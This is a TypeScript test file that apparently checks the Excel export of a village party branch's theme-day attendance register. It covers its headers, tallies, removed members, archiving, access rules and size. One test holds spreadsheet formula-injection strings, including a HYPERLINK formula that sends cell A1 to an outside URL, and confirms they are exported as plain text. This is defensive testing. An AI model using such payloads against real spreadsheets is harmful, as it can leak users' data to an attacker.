import { columnWidths } from '#shared/themeday/sheet'
import { writeTable } from '../../cloudfunctions/runtime/table'
import { dataOf, newVillage, publish, themeDayPlan, type Village } from '../village/village'
import { readTable, rowsOf } from './read-table'

describe('the register of a theme day as a file', () => {
  let village: Village
  beforeEach(async () => {
    village = await newVillage()
  })
  afterEach(() => village.close())

  const idOf = (name: string) => village.person(name).memberId
  const exported = async (themeDayId: string) => {
    const { fileName, base64 } = dataOf(await village.as('老王').themeday.exportBook({ themeDayId }))
    return { fileName, file: Buffer.from(base64, 'base64') }
  }

  it('opens, with a head and one line for each of the 26', async () => {
    const { themeDayId } = await village.themeDay('08:50')
    dataOf(await village.as('张大爷').themeday.checkIn({ themeDayId, via: 'code' }))
    dataOf(await village.as('老王').themeday.rollCall({ themeDayId, memberIds: [idOf('赵大娘')] }))
    const { fileName, file } = await exported(themeDayId)
    expect(fileName).toBe('2026-11 主题党日登记表 示范村支部.xlsx')
    const rows = rowsOf(readTable(file))
    expect(rows[0]).toEqual(['11月主题党日登记表 · 示范村支部'])
    const head = rows.findIndex((row) => row[1] === '姓名')
    expect(rows[head]).toEqual(['序号', '姓名', '党小组', '情况', '怎么到的', '时间', '谁记的', '备注'])
    const { rows: roster } = dataOf(await village.as('老王').themeday.listAttendance({ themeDayId, limit: 100 }))
    const lines = rows.slice(head + 1, head + 27)
    expect(lines.map((line) => line[1])).toEqual(roster.map(({ name }) => name))
    expect(rows[head + 27]).toEqual(['五项内容'])
    expect(lines.find((line) => line[1] === '张建国')).toEqual(expect.arrayContaining(['到会', '扫码', '8:50', '本人']))
    expect(lines.find((line) => line[1] === '赵玉珍')).toEqual(expect.arrayContaining(['到会', '点名', '8:50', '王志强']))
  })

  it('has the numbers that are counted everywhere else, and as many lines of each kind', async () => {
    const { themeDayId } = await village.themeDay()
    dataOf(await village.as('李强').themeday.askLeave({ themeDayId, note: '腿疼' }))
    village.clock.set('2026-11-25', '08:50')
    dataOf(await village.as('张大爷').themeday.checkIn({ themeDayId, via: 'home' }))
    dataOf(await village.as('老王').themeday.rollCall({ themeDayId, memberIds: ['赵大娘', '刘桂兰'].map(idOf) }))
    const tally = dataOf(await village.as('老王').themeday.countAttendance({ themeDayId }))
    const { file } = await exported(themeDayId)
    const cells = readTable(file)
    const rows = rowsOf(cells)
    const numbers = rows[rows.findIndex((row) => row[0] === '应到') + 1]
    expect(numbers?.slice(0, 4).map(Number)).toEqual([tally.expected, tally.present, tally.leave, tally.absent])
    expect(cells.filter(({ at }) => /^[A-D]6$/.test(at)).map(({ kind }) => kind)).toEqual(['number', 'number', 'number', 'number'])
    const head = rows.findIndex((row) => row[1] === '姓名')
    const told = (word: string) => rows.slice(head, head + 27).filter((row) => row[3] === word).length
    expect([told('到会'), told('请假'), told('缺席'), told('不用到')]).toEqual([tally.present, tally.leave, tally.absent, tally.excused])
    expect(cells.some(({ value }) => value.includes('腿疼'))).toBe(false)
  })

  it('counts who has left the roster since, on a line of their own', async () => {
    const { themeDayId } = await village.themeDay('08:50')
    dataOf(await village.as('张大爷').themeday.checkIn({ themeDayId, via: 'code' }))
    const { memberId } = village.person('张大爷')
    const { version } = dataOf(await village.as('老王').members.get({ memberId }))
    dataOf(await village.as('老王').members.remove({ memberId, version, reason: 'moved' }))
    const rows = rowsOf(readTable((await exported(themeDayId)).file))
    expect(rows.find((row) => row[1] === '张建国')).toEqual(['26', '张建国', '二组', '到会', '扫码', '8:50', '本人', '已不在名单上'])
  })

  it('holds texts that look like formulas as the texts they are', async () => {
    const topic = '=HYPERLINK("http://a.cn?x="&A1,"<点我>")'
    const { themeDayId } = await publish(village.as('老王'), { ...themeDayPlan, topic, place: '+86 会议室' })
    dataOf(await village.as('张大爷').themeday.giveOpinion({ themeDayId, words: '-1+1' }))
    village.clock.set('2026-11-25', '09:00')
    dataOf(await village.as('老王').themeday.addGuest({ themeDayId, name: '田有福', from: '@SUM(A1:A9)' }))
    // What is no plain value in a cell, a formula above all, is not read at all.
    const cells = readTable((await exported(themeDayId)).file)
    for (const value of [topic, '+86 会议室', '-1+1', '@SUM(A1:A9)']) expect(cells.find((cell) => cell.value === value)?.kind).toBe('text')
  })

  it('stays as it was when the book was closed', async () => {
    const { themeDayId } = await village.themeDay('08:50')
    dataOf(await village.as('张大爷').themeday.checkIn({ themeDayId, via: 'code' }))
    village.clock.set('2026-11-25', '11:05')
    dataOf(await village.as('老王').themeday.close({ themeDayId }))
    const rows = rowsOf(readTable((await exported(themeDayId)).file))
    expect(rows.at(-1)).toEqual(['归档', '2026年11月25日 11:05 王志强'])
  })

  it('is for the secretary alone, and for a day that is held', async () => {
    const { themeDayId } = await village.themeDay('08:50')
    expect(await village.as('徐大勇').themeday.exportBook({ themeDayId })).toMatchObject({ code: 'NOT_ALLOWED' })
    expect(await village.as('田有福').themeday.exportBook({ themeDayId })).toMatchObject({ code: 'NOT_FOUND' })
  })

  it('is below a megabyte for a branch of a thousand about whom there is much to say', async () => {
    const letter = (seed: number) => String.fromCodePoint(0x4e00 + ((seed * 7919) % 20_000))
    const words = (line: number) => Array.from({ length: 100 }, (_, index) => letter(line * 100 + index)).join('')
    const line = (index: number) => ({ look: 'line' as const, cells: [{ value: words(index), columns: columnWidths.length }] })
    const rows = Array.from({ length: 1000 }, (_, index) => line(index))
    const file = await writeTable([{ name: '党日登记', columnWidths, rows }])
    expect(file.toString('base64').length).toBeLessThan(1_000_000)
  })
})
